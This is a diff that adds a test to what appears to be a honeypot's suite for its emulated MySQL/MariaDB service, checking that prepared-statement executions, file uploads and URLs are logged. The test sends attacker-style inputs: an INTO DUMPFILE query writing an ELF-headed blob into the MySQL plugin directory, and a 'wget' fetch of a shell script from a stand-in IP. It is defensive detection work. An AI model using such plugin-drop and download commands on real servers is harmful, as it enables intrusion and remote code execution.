@@ -86,6 +86,50 @@ def mysql_mariadb_client_session(ctx):
     assert urls and urls[0]["found_in"] == "mysql", [e for e in evs if "url" in e]
 
 
+DBD_SCRIPT = r"""
+use strict; use DBI;
+my ($port, $payload_hex) = @ARGV;
+my $dbh = DBI->connect("DBI:MariaDB:host=127.0.0.1;port=$port;mariadb_server_prepare=1", "root", "S3cr3t!pw",
+                       {RaiseError => 1, PrintError => 0});
+my $sth = $dbh->prepare("select ?, ?, \@\@version");
+$sth->execute(42, "it's");
+print join("|", $sth->fetchrow_array), "\n";
+$sth = $dbh->prepare("select ? into dumpfile '/usr/lib/mysql/plugin/p.so'");
+$sth->bind_param(1, pack("H*", $payload_hex), DBI::SQL_BLOB);
+$sth->execute;
+$sth = $dbh->prepare("select ?");
+$sth->execute("wget http://198.51.100.24/p.sh");
+print join("|", $sth->fetchrow_array), "\n";
+$dbh->disconnect;
+"""
+
+
+@case
+def mysql_dbd_server_prepare(ctx):
+    """DBD::MariaDB with mariadb_server_prepare=1: COM_STMT_PREPARE / EXECUTE answered in the binary
+    protocol, each EXECUTE a command.input with its values, INTO DUMPFILE and the URL scan as for COM_QUERY."""
+    need("perl")
+    if subprocess.run(["perl", "-MDBD::MariaDB", "-e1"], capture_output=True).returncode != 0:
+        raise Skip("DBD::MariaDB (libdbd-mariadb-perl) is not installed")
+    d = ctx.daemon("mysql-dbd", [Service("my", protocol="mysql", accept_after="1")]).start()
+    port = d.svc("my").port
+    payload = b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) + b"'\\"
+    r = subprocess.run(["perl", "-e", DBD_SCRIPT, str(port), payload.hex()], capture_output=True,
+                       stdin=subprocess.DEVNULL, timeout=T(20))
+    assert r.returncode == 0, r.stderr
+    version = identity(d, "mysql_version")
+    shown = version[6:] if version.startswith("5.5.5-") else version
+    lines = r.stdout.decode().splitlines()
+    assert lines == ["42|it's|" + shown, "wget http://198.51.100.24/p.sh"], lines
+    d.wait_event(lambda e: e.get("url") == "http://198.51.100.24/p.sh", what="the URL")
+    evs = stop_and_read(d)
+    ex = [e["input"] for e in evs if e["eventid"] == "command.input" and e.get("command") == "COM_STMT_EXECUTE"]
+    assert ex[0] == "select '42', 'it\\'s', @@version" and len(ex) == 3, ex   # DBD sends perl scalars as strings
+    up = [e for e in evs if e["eventid"] == "session.file_upload" and e.get("protocol_detail") == "mysql"]
+    assert len(up) == 1 and up[0]["shasum"] == hashlib.sha256(payload).hexdigest(), up
+    assert up[0]["filename"] == "/usr/lib/mysql/plugin/p.so", up
+
+
 @case
 def mysql_hydra_3x3(ctx):
     """hydra mysql, 3 users x 3 passwords, one task: nine login events.  No login is accepted here:
